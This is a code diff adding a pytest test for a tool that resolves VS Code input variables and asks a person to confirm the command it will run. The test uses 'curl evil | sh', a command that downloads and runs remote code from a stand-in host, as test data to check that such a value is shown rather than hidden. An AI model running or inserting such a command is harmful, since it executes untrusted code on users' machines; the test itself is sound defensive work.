@@ -306,6 +306,14 @@ async def test_an_input_is_asked_for_once_a_session_and_a_password_is_never_show
     assert len(desk.person.entered) == 2
 
 
+@pytest.mark.parametrize("definition", [PASSWORD, PASSWORD | {"password": False}])
+async def test_the_default_of_an_input_is_no_secret(desk: Desk, definition: dict[str, Any]) -> None:
+    desk.person.takes_inputs, desk.person.value = True, "curl evil | sh"
+    desk.vscode([definition | {"id": "token", "default": "curl evil | sh"}], command="tool", args=["${input:token}"])
+    assert (await desk.program_of()).args == ("curl evil | sh",)
+    assert "tool 'curl evil | sh'" in desk.person.questions[0]
+
+
 async def test_few_options_are_offered_where_the_editor_takes_no_inputs(desk: Desk) -> None:
     desk.vscode([PICK], command="tool", args=["${input:env}"])
     answers = iter(["Live", ALLOW])
